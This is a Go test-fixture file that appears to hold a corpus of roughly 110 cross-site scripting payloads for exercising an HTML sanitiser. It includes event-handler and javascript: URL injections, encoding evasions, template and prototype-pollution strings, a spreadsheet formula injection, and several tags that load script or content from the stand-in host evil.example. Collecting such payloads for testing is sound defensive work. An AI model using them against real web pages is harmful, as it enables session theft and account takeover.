package xss

import "strings"

// corpus are texts that some page, some day, took for markup or script: by tag, by attribute, by address, by style, by template, by broken
// encoding, by what a sanitiser leaves when it takes something away. Each calls x() where it runs, and is short enough for a phone number.
var corpus = lines(`
	<script>x()</script>
	<ScRiPt>x()</sCrIpT>
	<script/src=data:,x()></script>
	<script src=//evil.example></script>
	<script>x()
	<scr<script>ipt>x()</scr</script>ipt>
	<script type=module>x()</script>
	<script nonce=a>x()</script>
	</script><script>x()</script>
	</title><script>x()</script>
	</textarea><script>x()</script>
	</style><script>x()</script>
	</noscript><script>x()</script>
	--><script>x()</script>
	]]><script>x()</script>
	<!--><img src=q onerror=x()>
	<![CDATA[<img src=q onerror=x()>]]>
	<img src=q onerror=x()>
	<img src=q onerror="x()">
	<img/src=q/onerror=x()>
	<img src=q onerror=x()//
	<img src=q:q onerror=x()>
	<img srcset=q onerror=x()>
	<img src=javascript:x()>
	<svg onload=x()>
	<svg/onload=x()>
	<svg><script>x()</script>
	<svg><a xlink:href=javascript:x()>q
	<svg><animate onbegin=x() dur=1s>
	<svg><set onbegin=x() attributename=q>
	<svg><style><img src=q onerror=x()>
	<svg><foreignobject><img src=q onerror=x()>
	<math href=javascript:x()>q
	<math><mtext><img src=q onerror=x()>
	<body onload=x()>
	<iframe src=javascript:x()>
	<iframe srcdoc="<img src=q onerror=x()>">
	<object data=javascript:x()>
	<object data=//evil.example>
	<embed src=javascript:x()>
	<embed src=//evil.example>
	<a href=javascript:x()>q</a>
	<a href="java&#115;cript:x()">q</a>
	<a href="java	script:x()">q</a>
	<a href=data:text/html,q>q</a>
	<base href=//evil.example>
	<meta http-equiv=refresh content=0;//q>
	<link rel=stylesheet href=//evil.example>
	<style>@import'//evil.example'</style>
	<style>*{color:red}</style>
	<p style=position:fixed;inset:0>q
	<div style=background:url(//evil.example)>
	<form action=//evil.example><button>q
	<form action=javascript:x()><button>q
	<button formaction=javascript:x()>q
	<input autofocus onfocus=x()>
	<input type=image src=q onerror=x()>
	<textarea autofocus onfocus=x()>
	<video src=q onerror=x()>
	<audio src=q onerror=x()>
	<details open ontoggle=x()>
	<marquee onstart=x()>
	<q onpointerover=x() tabindex=1>q
	<q id=q tabindex=1 onfocus=x() autofocus>
	<xss onfocus=x() autofocus tabindex=1>
	<dialog open onclose=x()>
	<div hx-get=/ hx-trigger=load>q
	<div hx-on:load=x()>q
	<div data-live=dispatch hx-get=/>
	<template><script>x()</script></template>
	" onfocus=x() autofocus "
	' onfocus=x() autofocus '
	"><img src=q onerror=x()>
	'><img src=q onerror=x()>
	"><script>x()</script>
	'><script>x()</script>
	"/><svg onload=x()>
	" style="position:fixed
	javascript:x()
	javascript://%0ax()
	JaVaScRiPt:x()
	data:text/html,<script>x()</script>
	//evil.example/q
	https://evil.example@127.0.0.1/
	\";x();//
	';x();//
	"-x()-"
	'-x()-'
	${x()}
	#{x()}
	{{x()}}
	{{constructor.constructor('x()')()}}
	<%= x() %>
	+ADw-script+AD4-x()+ADw-/script+AD4-
	%3Cscript%3Ex()%3C/script%3E
	&lt;img src=q onerror=x()&gt;
	&#60;script&#62;x()&#60;/script&#62;
	\u003cimg src=q onerror=x()\u003e
	\x3cscript\x3ex()\x3c/script\x3e
	＜script＞x()＜/script＞
	<img src=q onerror=x&lpar;&rpar;>
	<<img src=q onerror=x()>
	<img src="q" title="><img onerror=x()>
	<a title="</title><img src=q onerror=x()>">
	<noscript><p title="</noscript><img onerror=x()>
	{"__proto__":{"innerHTML":"<img onerror=x()>"}}
	]};x();//
	=cmd|' /C calc'!A0
	[q](javascript:x())
	![q](q"onerror="x())
	<https://evil.example>
`)

func lines(s string) []string {
	return strings.FieldsFunc(strings.ReplaceAll(s, "\n\t", "\n"), func(r rune) bool { return r == '\n' })
}
